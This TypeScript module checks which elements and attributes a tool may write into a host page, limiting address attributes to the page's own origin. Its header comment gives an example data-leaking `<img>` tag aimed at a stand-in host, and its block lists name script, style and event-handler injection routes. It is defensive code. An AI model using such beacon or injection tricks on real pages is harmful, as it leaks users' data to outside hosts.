// What a tool may write into the page. It is the host's page: nothing written there may become code, or name another
// host. `<img src="https://elsewhere.example/?what-it-read">` is a way out that no one granted, and so is a link that the
// tool writes and clicks.

import { wrong } from "./text.ts";

/**
 * Elements whose text is not text. An empty `<script>` in the page runs the moment somebody puts text into it, and the
 * text of a `<style>` can send what it selects to another host.
 */
const NOT_TEXT = ["script", "style", "iframe", "object", "embed", "noscript", "template", "base", "link", "meta"];

/** Attributes that hold addresses, in HTML and SVG. */
const ADDRESSES = [
  "href",
  "src",
  "action",
  "formaction",
  "cite",
  "poster",
  "data",
  "background",
  "ping",
  "longdesc",
  "xlink:href",
  "manifest",
  "codebase",
  "usemap",
];

/** Attributes that hold code, styles or documents, or say where things go. */
const NEVER = [
  "style",
  "srcdoc",
  "srcset",
  "imagesrcset",
  "http-equiv",
  "is",
  "sandbox",
  "allow",
  "nonce",
  "integrity",
  "target",
  "formtarget",
  "attributename",
  "to",
  "from",
  "values",
];

export function checkWritable(element: Element): void {
  if (NOT_TEXT.includes(element.localName)) throw wrong(`\`<${element.localName}>\` is never written to`);
}

export function checkAttribute(element: Element, name: string, value: string): void {
  checkWritable(element);
  const low = name.toLowerCase();
  if (!/^[a-z][a-z0-9_:.-]*$/.test(low) || low.startsWith("on") || NEVER.includes(low)) {
    throw wrong(`The attribute \`${name.slice(0, 60)}\` is never set by a tool`);
  }
  if (ADDRESSES.includes(low) && !isOwnAddress(value)) {
    throw wrong(`\`${low}\` takes an address of http or https on this page's own origin`);
  }
}

/** As the browser would read it, where it would be used. */
function isOwnAddress(value: string): boolean {
  try {
    const { origin, protocol } = new URL(value, document.baseURI);
    return /^https?:$/.test(protocol) && origin === location.origin;
  } catch {
    return false;
  }
}
